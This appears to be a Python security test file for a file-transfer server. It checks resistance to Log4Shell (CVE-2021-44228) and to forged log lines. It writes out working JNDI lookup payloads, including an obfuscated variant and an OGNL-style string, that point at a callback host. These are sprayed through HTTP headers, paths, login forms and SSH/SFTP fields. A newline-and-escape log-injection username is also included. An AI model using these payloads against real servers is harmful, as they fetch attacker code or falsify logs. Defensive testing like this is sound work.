"""CVE-2021-44228: Apache Log4j, December 2021 (MOVEit, GoAnywhere and others were searched for it)

There: what was logged was a language, so that a name in any field fetched code from the attacker's server.
Needs: here a log that evaluates, or a room that connects because of a text.
Here: P6, P9: an entry is data with its texts escaped; nobody looks a name up or calls out; and the log of the process has no line that a client wrote.
"""
from urllib.parse import quote

from lib.cases import tries
from lib.ssh_sftp import Status
from lib.ssh_wire import string

FIELDS = ("User-Agent", "X-Forwarded-For", "X-Api-Version", "Referer", "Cookie", "Accept", "Accept-Language", "From", "True-Client-IP", "X-Real-IP", "Authorization", "Content-Type", "If-Match", "X-CSRF-Token")


def test_lookups(house):
    with house.attack(inside="thief") as thief:
        token = thief.log_in()
        for text in (f"${{jndi:ldap://{house.call}/a}}", f"${{${{lower:j}}ndi:rmi://{house.call}/a}}", f"${{jndi:dns://{house.call}}}", f"%{{(#a=@java.net.URL@openStream())}}{house.call}"):
            for field in FIELDS:
                thief.http("GET", "/api/v1/files", f"{field}: {text}", token=None if field == "Authorization" else token)
            thief.http("GET", "/" + quote(text, safe=""))
            thief.http("GET", "/api/v1/files?path=" + quote(text, safe=""), token=token)
            thief.refused("POST", "/api/v1/token", f"User-Agent: {text}", form={"grant_type": "password", "username": text, "password": text})
            with thief.ssh(text, version=b"SSH-2.0-" + text.encode()).to("auth") as c:
                tries(c, c.request(text, "password", b"\0" + string(text)))
            with thief.sftp() as c:
                for call in (c.sftp.stat, c.sftp.mkdir, c.sftp.remove):
                    try:
                        call(text.replace("/", "_"))
                    except Status:
                        pass
        assert "jndi" not in house.server.log()


def test_a_line_of_ones_own(house):
    """A name with a line break in it is not a second line, neither in the log nor in the ledger's list."""
    with house.attack() as thief:
        thief.elsewhere()
        name = "x\n2026-01-01T00:00:00Z login victim from 10.0.0.1\x1b[2K"
        thief.refused("POST", "/api/v1/token", f"User-Agent: {name!r}", form={"grant_type": "password", "username": name, "password": "x"})
        with thief.strange(name) as c:
            tries(c, c.request(name, "password", b"\0" + string("x")))
        assert thief.seen("login.failed")
        listed = house.server.run("audit", "list", "--event", "login.failed").out
        assert "\x1b" not in listed and not any(line.startswith("2026-01-01") for line in listed.splitlines())
        assert not any(line.startswith("2026-01-01") for line in house.server.log().splitlines())
